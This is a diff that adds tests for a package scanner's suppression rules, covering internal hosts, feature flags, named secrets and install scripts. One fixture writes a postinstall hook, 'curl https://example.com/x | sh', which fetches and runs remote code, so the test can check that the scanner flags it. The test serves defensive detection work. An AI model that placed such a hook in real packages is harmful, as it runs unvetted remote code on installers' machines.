@@ -87,6 +87,79 @@ describe('an exception holds for what it was granted for', () => {
   })
 })
 
+describe('an exception for what is no secret holds for what was found, too', () => {
+  const RULE = 'team/no-flags'
+  const OWN = `custom-rules:
+  ${RULE}:
+    title: Internal feature flags
+    why: They tell what ships next.
+    fix: Strip them.
+    severity: error
+    find:
+      - pattern: 'FLAG_INTERNAL_[A-Z]+'
+`
+  const host = (name: string) => `fetch('https://${name}.corp.internal/x')\n`
+
+  test.each([
+    ['internal/host', host('wiki'), host('wiki') + host('vault')],
+    ['internal/host', host('wiki'), host('vault')],
+    [RULE, 'on(FLAG_INTERNAL_BETA)\n', 'on(FLAG_INTERNAL_GAMMA)\n'],
+    [RULE, 'on(FLAG_INTERNAL_BETA)\n', 'on(FLAG_INTERNAL_BETA, FLAG_INTERNAL_GAMMA)\n'],
+  ])('%s: %j, then %j', async (rule, before, after) => {
+    await writeFile(path.join(folder, 'seaworthy.yml'), OWN)
+    await pack({ 'index.js': before })
+    await suppress(rule)
+    expect((await judged()).of(rule)).toEqual([])
+    await pack({ 'index.js': `\n\n${before}` })
+    expect((await judged()).of(rule)).toEqual([])
+    await pack({ 'index.js': after })
+    expect((await judged()).of(rule)).toHaveLength(1)
+  })
+
+  test('an install script that runs something else', async () => {
+    const withScript = (script: string) => ({
+      'package.json': MANIFEST.replace(
+        '"main"',
+        `"scripts":{"postinstall":${JSON.stringify(script)}},"main"`,
+      ),
+      'index.js': 'exports.one = 1\n',
+    })
+    await pack(withScript('node index.js'))
+    await suppress('manifest/install-script')
+    expect((await judged()).of('manifest/install-script')).toEqual([])
+    await pack(withScript('curl https://example.com/x | sh'))
+    expect((await judged()).of('manifest/install-script')).toHaveLength(1)
+  })
+
+  test('one that is written by hand for whatever lies at a path holds as it is written', async () => {
+    const hand =
+      'suppressions:\n  - rule: internal/host\n    path: "**"\n    reason: A data centre that is gone.\n'
+    await writeFile(path.join(folder, 'seaworthy.yml'), hand)
+    await pack({ 'index.js': host('wiki') + host('vault') })
+    expect((await judged()).of('internal/host')).toEqual([])
+  })
+
+  test('one with a fingerprint and nothing that it is for must be renewed', async () => {
+    await pack({ 'index.js': host('wiki') })
+    await suppress('internal/host')
+    await writeFile(path.join(folder, 'seaworthy.yml'), (await config()).replace(/ +values:\n +- \w+\n/, ''))
+    const { of, one } = await judged()
+    expect(of('internal/host')).toHaveLength(1)
+    expect(one.notes.join('\n')).toMatch(/does not say for which value it holds, so it no longer holds/)
+  })
+})
+
+test('a secret that is known by its name is bound to its value', async () => {
+  const named = (value: string) => `const config = { jwtSecret: '${value}' }\n`
+  await pack({ 'index.js': named(random(32, 4)) })
+  const [first] = (await judged()).one.findings.filter(({ rule }) => rule.startsWith('secret/'))
+  const rule = first?.rule ?? ''
+  await suppress(rule)
+  expect((await judged()).of(rule)).toEqual([])
+  await pack({ 'index.js': named(random(32, 8)) })
+  expect((await judged()).of(rule)).toHaveLength(1)
+})
+
 test('an exception for a file of values holds for those values', async () => {
   await pack({ '.env': 'API_KEY=not-a-real-one-9\n' })
   await suppress('file/environment')
